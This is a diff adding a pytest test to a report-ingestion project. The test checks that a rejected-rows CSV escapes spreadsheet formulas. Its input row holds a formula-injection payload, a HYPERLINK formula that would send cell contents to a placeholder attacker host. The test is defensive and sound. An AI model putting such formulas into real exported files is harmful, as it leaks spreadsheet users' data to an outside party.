@@ -288,3 +288,15 @@ def test_an_area_drawn_by_the_reporter_is_located_inside_it(case_2011, tmp_path)
     csv_path = _write(tmp_path / "areas.csv", [{"date": "2011-07-01", "wkt": area.wkt, "comment": "dug here"}])
     [again] = import_reports(csv_path, sites, key=None, policy="drop").accepted
     assert (again.lat, again.lon, again.accuracy_m) == (rep.lat, rep.lon, rep.accuracy_m)
+
+
+def test_rejected_rows_file_runs_no_spreadsheet_formula(case_2011, tmp_path):
+    from reports.ingest import write_rejected
+
+    sites = read_sites(case_2011 / "sites.geojson").sites
+    rows = [{"date": "2031-01-01", "latitude": "40.29", "longitude": "-106.91",
+             "comment": '=HYPERLINK("http://evil.example/?"&A1,"click")'}]
+    res = import_reports(_write(tmp_path / "r.csv", rows), sites, key=None, policy="drop")
+    kept = list(csv.DictReader(write_rejected(res, tmp_path / "rej.csv").open()))
+    assert kept[0]["comment"].startswith("'=HYPERLINK")  # shown as text, not run
+    assert kept[0]["longitude"] == "-106.91"  # numbers stay numbers
